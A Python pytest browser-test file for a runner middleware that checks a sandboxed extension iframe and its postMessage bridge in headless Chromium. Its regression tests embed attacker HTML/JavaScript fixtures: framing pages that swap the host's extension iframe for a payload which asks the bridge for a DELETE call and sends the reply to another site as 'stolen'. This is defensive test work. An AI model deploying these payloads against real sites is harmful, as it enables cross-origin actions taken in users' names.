"""A real browser runs the demo: the sandboxed extension UI loads through /runner and its call
comes back through the host page's postMessage bridge and /v1/execute.

Headless Chromium driven by selenium with the system chromedriver (``Service(CHROMEDRIVER)``:
selenium-manager is never started, nothing is downloaded). The app is ``examples/wsgi_app.py``
under a real gunicorn (``config/gunicorn.conf.py``, an ephemeral port) in front of a devrunner.
Skipped, saying how to install them, when Chromium or chromedriver is missing.
"""

from __future__ import annotations

import contextlib
import os
import queue
import re
import signal
import subprocess
import sys
import tempfile
import threading
import time
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests
from requires import missing

from runner_mw.devrunner import DevServer
from runner_mw.devrunner import make_app as make_runner_app
from runner_mw.devrunner import make_server as make_runner_server

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parent.parent
CHROMIUM = os.environ.get("RUNNER_MW_TEST_CHROMIUM", "/usr/bin/chromium")
CHROMEDRIVER = os.environ.get("RUNNER_MW_TEST_CHROMEDRIVER", "/usr/bin/chromedriver")
WAIT_S = 30.0  # generous: a busy 2-core machine starting Chromium and gunicorn side by side
LISTENING = re.compile(r"Listening at: (http://127\.0\.0\.1:\d+) ")


def browser_missing() -> str | None:
    for path, package in ((CHROMIUM, "chromium"), (CHROMEDRIVER, "chromium-driver")):
        if not (os.path.isfile(path) and os.access(path, os.X_OK)):
            return (f"{path} not found: install Chromium and its driver to run the browser test "
                    f"(Debian/Ubuntu: apt-get install chromium chromium-driver; missing: {package})")
    return None


@pytest.fixture
def runner() -> Iterator[DevServer]:
    server = make_runner_server("127.0.0.1", 0, make_runner_app()).start()
    try:
        yield server
    finally:
        server.stop()


@contextlib.contextmanager
def gunicorn(runner_url: str, tmp: Path) -> Iterator[str]:
    """``examples.wsgi_app:application`` under gunicorn on a free port; yields its base URL."""
    env = {k: v for k, v in os.environ.items()
           if not k.startswith(("RUNNER_", "EXT_GATEWAY_"))}  # only what this test sets
    env.update(RUNNER_BACKEND="docker", RUNNER_DOCKER_HOST=runner_url,
               RUNNER_MW_CONFIG=str(ROOT / "config" / "runner.yaml"),
               XDG_RUNTIME_DIR=str(tmp))  # gunicorn's control socket: not the shared default
    log = (tmp / "gunicorn.log").open("w+")
    proc = subprocess.Popen(
        [sys.executable, "-m", "gunicorn", "-c", str(ROOT / "config" / "gunicorn.conf.py"),
         "--workers", "1", "--bind", "127.0.0.1:0", "examples.wsgi_app:application"],
        cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
        start_new_session=True,
    )
    lines: queue.Queue[str] = queue.Queue()

    def pump() -> None:
        assert proc.stderr is not None
        for line in proc.stderr:
            log.write(line)
            lines.put(line)

    reader = threading.Thread(target=pump, daemon=True)
    reader.start()
    try:
        deadline = time.monotonic() + WAIT_S * 2
        base = None
        while base is None:
            try:
                line = lines.get(timeout=max(0.0, deadline - time.monotonic()))
            except queue.Empty:
                pytest.fail(f"gunicorn did not listen within {WAIT_S * 2:.0f} s:\n{read(log)}")
            if proc.poll() is not None and lines.empty():
                pytest.fail(f"gunicorn exited with status {proc.returncode}:\n{read(log)}")
            match = LISTENING.search(line)
            base = match[1] if match else None
        with requests.Session() as http:
            http.trust_env = False
            while True:  # a worker has booted once the gateway's own health endpoint answers
                with contextlib.suppress(requests.RequestException):
                    if http.get(f"{base}/runner/-/healthz", timeout=5).status_code == 200:
                        break
                if time.monotonic() > deadline or proc.poll() is not None:
                    pytest.fail(f"gunicorn's worker did not answer:\n{read(log)}")
                time.sleep(0.1)
        yield base
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=WAIT_S)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        reader.join(WAIT_S)
        assert proc.stderr is not None
        proc.stderr.close()
        log.close()


def read(log: object) -> str:
    log.seek(0)  # type: ignore[attr-defined]
    return str(log.read())[-4000:]  # type: ignore[attr-defined]


@contextlib.contextmanager
def chromium(profile: Path) -> Iterator[object]:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM  # with Service(path) too, selenium-manager is never run
    for arg in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu",
                "--disable-background-networking", "--disable-component-update", "--no-first-run",
                "--disable-sync", "--no-proxy-server", "--no-default-browser-check",
                f"--user-data-dir={profile}"):
        options.add_argument(arg)
    with warnings.catch_warnings():
        # Deprecated for a ClientConfig that webdriver.Chrome does not take: the only way here.
        warnings.simplefilter("ignore", DeprecationWarning)
        options.ignore_local_proxy_environment_variables()  # selenium's client talks to loopback
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER, log_output=subprocess.DEVNULL), options=options)
    try:
        driver.set_page_load_timeout(WAIT_S)
        yield driver
    finally:
        driver.quit()


def test_extension_ui_round_trip_in_chromium(runner: DevServer, monkeypatch: pytest.MonkeyPatch) -> None:
    reason = browser_missing()
    if reason:
        missing(reason)
    monkeypatch.setenv("SE_OFFLINE", "true")  # belt and braces: selenium-manager is not run anyway
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support import expected_conditions as ec
    from selenium.webdriver.support.ui import WebDriverWait

    # A short folder: gunicorn's control socket path must fit in a Unix socket address.
    with tempfile.TemporaryDirectory(prefix="rmw-") as tmp, gunicorn(runner.url, Path(tmp)) as base, \
            chromium(Path(tmp) / "profile") as driver:
        driver.get(f"{base}/")  # type: ignore[attr-defined]
        frame = driver.find_element(By.ID, "extension")  # type: ignore[attr-defined]
        src = frame.get_dom_attribute("src")  # as written in the page, not resolved
        assert src.startswith("/runner/ext-ui/"), src  # same origin, through the middleware
        assert frame.get_dom_attribute("sandbox") == "allow-scripts"

        driver.switch_to.frame(frame)  # type: ignore[attr-defined]
        wait = WebDriverWait(driver, WAIT_S)
        wait.until(ec.presence_of_element_located((By.ID, "loaded")))
        expected = "Extension says: hello (tenant demo-tenant, path /hello)"
        try:
            wait.until(ec.text_to_be_present_in_element((By.ID, "answer"), expected))
        except Exception:  # say what the page showed instead
            answer = driver.find_element(By.ID, "answer").text  # type: ignore[attr-defined]
            pytest.fail(f"#answer is {answer!r}, expected {expected!r}")
        # The sandbox holds: the extension runs in an opaque origin, not the host's.
        assert driver.execute_script("return window.origin") == "null"  # type: ignore[attr-defined]
        driver.switch_to.default_content()  # type: ignore[attr-defined]
        # Opened directly (a link to it, no iframe): still an opaque origin, by the gateway's
        # own CSP sandbox, so it cannot use the host's cookies or call /v1/execute as the host.
        driver.get(f"{base}{src}")  # type: ignore[attr-defined]
        WebDriverWait(driver, WAIT_S).until(ec.presence_of_element_located((By.ID, "loaded")))
        assert driver.execute_script("return window.origin") == "null"  # type: ignore[attr-defined]


ATTACKER = """<!doctype html><title>another site</title>
<iframe id="host" src="{host}/" width="900" height="500"></iframe>
<pre id="result">waiting</pre>
<script>
window.addEventListener("message", function (e) {{
  if (e.data && e.data.stolen) document.getElementById("result").textContent = JSON.stringify(e.data.stolen);
}});
document.getElementById("host").onload = function () {{
  // A top-level page may navigate any frame below it, cross-origin ones included.
  try {{ window.frames[0].frames[0].location = "{evil}/payload.html"; }}
  catch (err) {{ document.getElementById("result").textContent = "no frame: " + err.name; }}
}};
</script>"""

PAYLOAD = """<!doctype html><script>
// In the host's extension iframe, in place of the extension: asks the bridge for a call.
window.addEventListener("message", function (e) {
  if (e.data && e.data.type === "runner_mw.result") top.postMessage({stolen: e.data}, "*");
});
parent.postMessage({type: "runner_mw.execute", id: "evil-1",
                    http: {method: "DELETE", path: "/records", body: "chosen by another site"}}, "*");
</script>"""


@contextlib.contextmanager
def another_site(pages: dict[str, str], name: str = "localhost",
                 posts: list[bytes] | None = None) -> Iterator[str]:
    """``pages`` served on a free port, reached as ``http://<name>:<port>`` (``localhost``:
    another origin than the host app's ``http://127.0.0.1:<port>``); POST bodies go to
    ``posts``, answered with a runner reply."""
    import http.server

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            kind = "text/javascript" if self.path.endswith(".js") else "text/html; charset=utf-8"
            self._send(pages.get(self.path, "").encode(), kind)

        def do_POST(self) -> None:
            assert posts is not None
            posts.append(self.rfile.read(int(self.headers["Content-Length"])))
            self._send(b'{"status": 200, "headers": {}, "body_b64": "ZG9uZQ==", "error": null}',
                       "application/json")

        def _send(self, body: bytes, kind: str) -> None:
            self.send_response(200 if body else 404)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{name}:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(WAIT_S)


def test_another_site_framing_the_host_page_gets_no_call_through_the_bridge(
        runner: DevServer, monkeypatch: pytest.MonkeyPatch) -> None:
    # The site framed the host page, navigated its extension iframe to a page of its own (the
    # same contentWindow, which the bridge trusts), and had /v1/execute called as the user,
    # reading the reply. The host page now refuses to be framed by another site.
    reason = browser_missing()
    if reason:
        missing(reason)
    monkeypatch.setenv("SE_OFFLINE", "true")
    from selenium.webdriver.common.by import By

    pages: dict[str, str] = {}
    with tempfile.TemporaryDirectory(prefix="rmw-") as tmp, gunicorn(runner.url, Path(tmp)) as base, \
            another_site(pages) as evil, chromium(Path(tmp) / "profile") as driver:
        pages["/"] = ATTACKER.format(host=base, evil=evil)
        pages["/payload.html"] = PAYLOAD
        driver.get(evil + "/")  # type: ignore[attr-defined]
        deadline = time.monotonic() + 8  # the whole round trip takes well under a second
        text = "waiting"
        while time.monotonic() < deadline and text == "waiting":
            time.sleep(0.2)
            text = driver.find_element(By.ID, "result").text  # type: ignore[attr-defined]
        assert "status" not in text, f"another site got a reply through the bridge: {text}"


BRIDGE = (ROOT / "examples" / "static" / "runner-bridge.js").read_text(encoding="utf-8")
# A host page as a host app might serve it without the anti-framing headers: the bridge's own
# guard must then refuse, whichever ancestor is the other site.
UNGUARDED_HOST = """<!doctype html><script src="/runner-bridge.js"></script>
<iframe src="/ext.html" sandbox="allow-scripts" data-runner-extension="ext" data-content-hash="h"
        data-tenant="victim-tenant" data-execute-url="/v1/execute"></iframe>"""
# The host's own page embedding another site (a partner widget), which embeds the host page.
HOST_TOP = """<!doctype html><iframe src="{evil}/middle.html" width=900 height=600></iframe>
<pre id="result">waiting</pre><script>
addEventListener("message", function (e) {{
  if (e.data && e.data.stolen) document.getElementById("result").textContent = JSON.stringify(e.data.stolen);
}});
</script>"""
MIDDLE = """<!doctype html><iframe id="h" src="{host}/host.html"></iframe><script>
document.getElementById("h").onload = function () {{
  frames[0].frames[0].location = location.origin + "/payload.html";
}};
addEventListener("message", function (e) {{ if (e.data && e.data.stolen) top.postMessage(e.data, "*"); }});
</script>"""


@pytest.mark.parametrize("layout", ["another-site-on-top", "another-site-in-between"])
def test_the_bridge_alone_relays_nothing_when_another_site_is_an_ancestor(
        monkeypatch: pytest.MonkeyPatch, layout: str) -> None:
    # Its guard looked at window.top only: a page of the host's origin embedding another site
    # that embeds the host page passed it, and that site's frame took the extension's place.
    reason = browser_missing()
    if reason:
        missing(reason)
    monkeypatch.setenv("SE_OFFLINE", "true")
    from selenium.webdriver.common.by import By

    host_pages = {"/host.html": UNGUARDED_HOST, "/ext.html": "<!doctype html><p>extension</p>",
                  "/runner-bridge.js": BRIDGE}
    evil_pages = {"/payload.html": PAYLOAD}
    posts: list[bytes] = []
    with tempfile.TemporaryDirectory(prefix="rmw-") as tmp, \
            another_site(host_pages, "127.0.0.1", posts) as host, another_site(evil_pages) as evil, \
            chromium(Path(tmp) / "profile") as driver:
        host_pages["/top.html"] = HOST_TOP.format(evil=evil)
        evil_pages["/middle.html"] = MIDDLE.format(host=host)
        evil_pages["/"] = ATTACKER.format(host=host, evil=evil).replace(f"{host}/", f"{host}/host.html")
        start = f"{host}/top.html" if layout == "another-site-in-between" else f"{evil}/"
        driver.get(start)  # type: ignore[attr-defined]
        deadline = time.monotonic() + 8
        text = "waiting"
        while time.monotonic() < deadline and text == "waiting":
            time.sleep(0.2)
            text = driver.find_element(By.ID, "result").text  # type: ignore[attr-defined]
        assert posts == [], posts
        assert "status" not in text, text


SAME_ORIGIN_EXTENSION = """<!doctype html><script>
parent.postMessage({type: "runner_mw.execute", id: "1", http: {method: "GET", path: "/hello"}}, "*");
</script>"""


def test_the_bridge_relays_when_every_ancestor_is_of_its_origin(monkeypatch: pytest.MonkeyPatch) -> None:
    # A srcdoc frame of the host's own page has the host's origin but a location.origin of
    # "null": compared by location, the guard refused a layout that was all the host's.
    reason = browser_missing()
    if reason:
        missing(reason)
    monkeypatch.setenv("SE_OFFLINE", "true")
    posts: list[bytes] = []
    pages = {"/host.html": UNGUARDED_HOST, "/ext.html": SAME_ORIGIN_EXTENSION, "/runner-bridge.js": BRIDGE,
             "/top.html": """<!doctype html><iframe srcdoc='<iframe src="/host.html"></iframe>'></iframe>"""}
    with tempfile.TemporaryDirectory(prefix="rmw-") as tmp, another_site(pages, "127.0.0.1", posts) as host, \
            chromium(Path(tmp) / "profile") as driver:
        driver.get(f"{host}/top.html")  # type: ignore[attr-defined]
        deadline = time.monotonic() + WAIT_S
        while time.monotonic() < deadline and not posts:
            time.sleep(0.2)
        assert len(posts) == 1, "the bridge relayed nothing in a layout all of its own origin"
